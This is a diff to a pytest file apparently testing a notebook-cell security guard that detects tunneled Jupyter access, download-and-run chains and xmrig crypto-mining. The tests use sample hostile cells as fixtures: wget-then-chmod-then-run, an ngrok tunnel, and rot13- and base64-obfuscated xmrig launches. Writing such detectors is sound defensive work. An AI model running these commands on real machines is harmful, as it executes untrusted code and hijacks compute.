@@ -170,17 +170,49 @@ def test_signs_are_kept_as_lines_bounded_and_read_only_by_a_cell_with_a_sign_of_
 ) -> None:
     signs = default_engine.compiled.signs
     found = signs.lines(TUNNEL_SPLIT[0] + "\nx = 1")
-    assert found == {"remote-access.tunneled-jupyter": [TUNNEL_SPLIT[0]]}
+    assert [rule for rule, _ in found] == ["remote-access.tunneled-jupyter"]
+    assert list(found.values()) == [[TUNNEL_SPLIT[0]]]
     memory = Memory()
     memory.remember_signs(found)
     assert signs.rules_in("print(1)") == set()
     assert memory.sign_prelude(signs.rules_in("print(1)")) == ""
     assert memory.sign_prelude(signs.rules_in("!./ngrok http 8889")) == TUNNEL_SPLIT[0] + "\n"
     for i in range(100):
-        memory.remember_signs({"r": [f"line {i}"]})
+        memory.remember_signs({("r", f"sign {i}"): [f"line {i}"]})
     assert memory.sign_prelude({"r", "remote-access.tunneled-jupyter"}).count("\n") == 32
     # a sign in the prelude alone, with nothing of the rule in the cell, is no hit
-    assert default_engine.evaluate("x = 2", prelude=TUNNEL_SPLIT[0] + "\n!./ngrok http 8889\n").rule_ids == ()
+    assert default_engine.evaluate("x = 2", signs=TUNNEL_SPLIT[0] + "\n!./ngrok http 8889\n").rule_ids == ()
+
+
+def test_a_sign_seen_in_many_cells_keeps_its_latest_lines_and_never_pushes_out_another(tmp_path: Path) -> None:
+    """A rule counts which of its signs hold, not how often: thirty data downloads must not
+    push the `chmod +x` of an earlier cell out of the kernel's memory."""
+    guard = make_guard(tmp_path)
+    cells = ["!wget -q https://example.com/files/tool -O t && chmod +x t"]
+    cells += [f"!wget -q https://example.org/data/part{i}.csv" for i in range(40)]
+    for cell in cells:
+        assert guard.check(Request(cell, kernel_id="k")).action == Action.ALLOW
+    guard.remember_pending()
+    memory = guard.memories["k"]
+    prelude = memory.sign_prelude({"hidden-code.download-and-run"})
+    assert cells[0] in prelude and cells[-1] in prelude and cells[-3] not in prelude
+    assert prelude.count("\n") <= 4
+    decision = guard.check(Request("!./t --threads 2", kernel_id="k"))
+    assert decision.verdict is not None and decision.verdict.rule_ids == ("hidden-code.download-and-run",)
+
+
+def test_hidden_code_in_remembered_sign_lines_sends_no_later_cell_to_be_read(default_engine: Engine) -> None:
+    """Sign lines were read when their cell ran: decoding, a sink or a tool name in them is no
+    reason to read every later cell that shares one of their signs (8 KB setup cells took
+    5-8 ms each that way); their signs still count toward the rule."""
+    hidden = "exec(codecs.decode('bf.flfgrz(\"./kzevt -b cbby\")', 'rot13'))  # ./run\n!./xmrig --help\n"
+    setup = "\n".join(f"!wget -q https://example.org/data/part{i}.zip -O d.zip && unzip -q d.zip" for i in range(40))
+    assert default_engine.prefiltered(setup, signs=hidden) is not None  # settled by the first pass
+    assert default_engine.prefiltered(setup, prelude=hidden) is None  # assignments are read, though
+    # the signs there still count: with a chmod in this cell, the rule holds
+    verdict = default_engine.evaluate(setup + "\n!chmod +x d", signs=hidden)
+    assert verdict.rule_ids == ("hidden-code.download-and-run",)
+    assert all(m.span.line > 0 for h in verdict.hits for m in h.matches)
 
 
 def test_a_huge_cell_is_not_searched_for_signs(default_engine: Engine) -> None:
@@ -189,3 +221,20 @@ def test_a_huge_cell_is_not_searched_for_signs(default_engine: Engine) -> None:
     huge = TUNNEL_SPLIT[0] + "\n" + "x = 1\n" * (MAX_TEXT_CHARS // 6)
     assert default_engine.compiled.signs.lines(huge) == {}
     assert default_engine.compiled.signs.rules_in(huge) == set()
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        "%%bash\necho eG1yaWc= | base64 -d | sh",
+        "%%bash\nP=xm\nQ=rig\n./$P$Q -o pool.example.org:3333",
+        "%%capture\n!./xm''rig --help",
+    ],
+)
+def test_a_cell_magic_after_remembered_code_still_heads_its_cell(default_engine: Engine, cell: str) -> None:
+    """What earlier cells left is read before the cell; a `%%bash` cell is still read as the
+    shell script it is (before, any prelude turned its body into text)."""
+    alone = default_engine.evaluate(cell).rule_ids
+    assert "mining.xmrig" in alone
+    assert default_engine.evaluate(cell, prelude='data_dir = "data"\n').rule_ids == alone
+    assert default_engine.evaluate(cell, signs="!wget -q https://example.org/a.zip\n").rule_ids == alone
